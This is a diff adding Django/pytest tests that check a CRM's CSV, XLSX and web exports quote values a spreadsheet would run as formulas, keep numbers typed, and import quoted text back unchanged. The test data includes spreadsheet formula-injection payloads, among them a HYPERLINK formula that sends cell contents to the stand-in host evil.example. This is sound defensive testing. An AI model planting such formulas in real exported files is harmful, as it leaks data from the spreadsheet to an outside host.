@@ -2,6 +2,7 @@
 to what the user may see, and files that import back onto the same records unchanged."""
 
 import codecs
+import io
 
 import pytest
 from django.core.management import call_command
@@ -107,3 +108,71 @@ def test_clm_export_command_honours_as_user(team_visibility, owner, outsider, tm
     rows = [chunk.frame for chunk in open_table(tmp_path / "all.xlsx").chunks()][0]
     assert sorted(rows[2]) == ["Mine", "Theirs"]
     assert "Mine" not in (tmp_path / "theirs.csv").read_text(encoding="utf-8-sig")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tcmd",
+    "\r=1",
+    "'=already quoted",
+]
+
+
+@pytest.fixture
+def formula_accounts(db):
+    for i, name in enumerate(FORMULAS):
+        account = Account.objects.create(name=name, external_id=f"F{i}", source="import", industry="=1+1")
+        Order.objects.create(account=account, external_id=f"R{i}", source="import", ordered_on="2024-01-05", amount=-1500, cost=0)
+
+
+def test_a_csv_export_quotes_text_a_spreadsheet_would_run_and_keeps_numbers(formula_accounts, tmp_path):
+    import csv
+
+    for kind in ("accounts", "orders"):
+        export_file(kind, tmp_path / f"{kind}.csv")
+    with open(tmp_path / "accounts.csv", encoding="utf-8-sig", newline="") as fh:
+        raw = fh.read()
+    rows = list(csv.DictReader(io.StringIO(raw.replace("\r=", "CR="))))  # csv reads CR in a cell as LF
+    assert [row["Name"].replace("CR=", "\r=") for row in rows] == ["'" + name for name in FORMULAS]
+    assert {row["Industry"] for row in rows} == {"'=1+1"}
+    with open(tmp_path / "orders.csv", encoding="utf-8-sig", newline="") as fh:
+        assert {row["Amount"] for row in csv.DictReader(fh)} == {"-1500.00"}  # a refund stays a number
+
+
+def test_an_xlsx_export_holds_no_formula_and_keeps_numbers_typed(formula_accounts, tmp_path):
+    from openpyxl import load_workbook
+
+    for kind in ("accounts", "orders"):
+        export_file(kind, tmp_path / f"{kind}.xlsx")
+    sheet = load_workbook(tmp_path / "accounts.xlsx").active
+    assert not [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    names = [row[header(get_kind("accounts")).index("Name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert names == ["'" + name.replace("\r", "\n") for name in FORMULAS]  # XML reads CR as LF
+    sheet = load_workbook(tmp_path / "orders.xlsx").active
+    amounts = {row[header(get_kind("orders")).index("Amount")] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert amounts == {-1500}
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_quoted_text_imports_back_as_it_was(formula_accounts, tmp_path, suffix):
+    export_file("accounts", tmp_path / f"accounts{suffix}")
+    Account.objects.update(name="changed", industry="changed")
+    report = run("accounts", tmp_path / f"accounts{suffix}")
+    assert report.status == "done", (report.problems, report.errors[:3])
+    names = dict(Account.objects.values_list("external_id", "name"))
+    expected = {f"F{i}": name for i, name in enumerate(FORMULAS)}
+    if suffix == ".xlsx":  # XML reads a CR in text as LF, so the cell comes back as "'\n=1"
+        assert names.pop("F5") == "'\n=1"
+        del expected["F5"]
+    assert names == expected
+    assert set(Account.objects.values_list("industry", flat=True)) == {"=1+1"}
+
+
+def test_the_workspace_export_quotes_formulas_too(formula_accounts, admin_user, client):
+    client.force_login(admin_user)
+    body = b"".join(client.get("/accounts/export.csv").streaming_content).decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in body
+    assert "\n=" not in body and ",=" not in body
